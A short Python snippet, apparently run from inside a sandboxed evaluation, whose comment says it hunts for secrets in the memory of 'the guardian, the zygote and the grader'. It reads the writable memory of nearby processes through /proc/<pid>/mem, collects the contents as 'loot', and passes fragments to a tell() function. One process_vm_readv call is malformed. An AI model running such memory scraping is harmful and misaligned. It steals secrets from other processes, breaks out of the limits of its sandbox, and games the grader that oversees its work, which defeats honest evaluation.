# tries: to find secrets in the memory of the guardian, the zygote and the grader
loot = []
for pid in range(max(1, os.getpid() - 300), os.getpid()):
    try:
        with open(f"/proc/{pid}/maps", encoding="utf-8") as maps:
            spans = [line.split()[0] for line in maps if " rw" in line]
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for span in spans:
                start, stop = (int(n, 16) for n in span.split("-"))
                memory.seek(start)
                loot.append(memory.read(min(stop - start, 1 << 24)))
    except (OSError, ValueError):
        continue
    loot.append(bytes(libc.process_vm_readv(pid, None, 0, None, 0, 0) == 0))
tell([each[:200] for each in loot])
